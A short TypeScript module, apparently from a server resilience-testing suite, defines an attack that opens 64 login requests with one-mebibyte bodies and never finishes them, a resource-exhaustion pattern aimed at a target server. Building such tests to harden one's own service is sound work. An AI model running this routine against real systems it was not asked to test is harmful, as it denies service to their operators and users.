import type { Attack } from '../attack.ts'
import { sendUnfinished } from '../connections.ts'

const bodyBytes = 1024 * 1024

/** 64 bodies of 1 MiB without a session, none of which ever ends. */
export const unfinishedLogins: Attack = {
  async run(target) {
    const body = Buffer.alloc(bodyBytes, ' ')
    for (let login = 0; login < 64; login++) sendUnfinished(target, { operation: 'startLogin', body })
  },
}
